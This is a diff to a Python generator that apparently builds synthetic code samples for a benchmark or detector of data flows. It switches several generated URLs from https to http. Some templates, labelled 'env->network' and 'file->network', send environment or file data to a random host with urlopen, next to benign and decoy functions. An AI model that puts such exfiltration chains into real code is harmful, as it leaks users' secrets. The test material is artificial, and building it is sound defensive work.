@@ -114,7 +114,7 @@ def _chain_exfil(rng, names, mods, mirror=False):
          f"    return urllib.request.urlopen('http://{_host(rng)}/c', data=body)\n") if not mirror else (
         f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
         f"    from {mods[1]} import {f2}\n    body = {f2}({{'ping': 1}})\n    seen = len({f1}())\n"
-        f"    return urllib.request.urlopen('https://{_host(rng)}/health', data=body), seen\n")
+        f"    return urllib.request.urlopen('http://{_host(rng)}/health', data=body), seen\n")
     return [(0, a), (1, b), (2, c)], [f1, f2, f3], "env->network"
 
 
@@ -143,7 +143,7 @@ def _chain_file_network(rng, names, mods, mirror=False):
     use = (f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    body = {f1}().encode()\n"
            f"    return urllib.request.urlopen('http://{_host(rng)}/u', data=body)\n") if not mirror else (
           f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    size = len({f1}())\n"
-          f"    return urllib.request.urlopen('https://{_host(rng)}/version.json').read(), size\n")
+          f"    return urllib.request.urlopen('http://{_host(rng)}/version.json').read(), size\n")
     return [(0, src), (1, use)], [f1, f2], "file->network"
 
 
@@ -189,7 +189,7 @@ def _benign_chain(rng, names, mods):
         use = f"def {f2}():\n    from {mods[0]} import {f1}\n    return {f1}().strip().upper()\n"
     else:
         src = (f"def {f1}():\n    import urllib.request\n"
-               f"    return urllib.request.urlopen('https://{_host(rng)}/v.json').read()\n")
+               f"    return urllib.request.urlopen('http://{_host(rng)}/v.json').read()\n")
         use = f"def {f2}():\n    import json\n    from {mods[0]} import {f1}\n    return json.loads({f1}())\n"
     return [(0, src), (1, use)], [f1, f2]
 
@@ -201,7 +201,7 @@ def _decoy(rng, names) -> tuple[str, str]:
         f"def {f}():\n    import base64\n    return len(base64.b64decode({_b64()!r}))\n",
         f"def {f}(expr='1 + 1'):\n    return eval(compile(expr, '<{f}>', 'eval'), {{'__builtins__': {{}}}})\n",
         f"def {f}():\n    import urllib.request, json\n"
-        f"    with urllib.request.urlopen('https://{_host(rng)}/v.json') as r:\n        return json.loads(r.read())\n",
+        f"    with urllib.request.urlopen('http://{_host(rng)}/v.json') as r:\n        return json.loads(r.read())\n",
         f"def {f}():\n    import os\n    return os.environ.get('{f.upper()[1:]}_DEBUG', '0') == '1'\n",
         f"def {f}(cmd=('echo', 'ok')):\n    import subprocess\n    return subprocess.run(list(cmd), check=False)\n",
         f"def {f}():\n    import socket\n    return socket.gethostname().split('.')[0]\n",
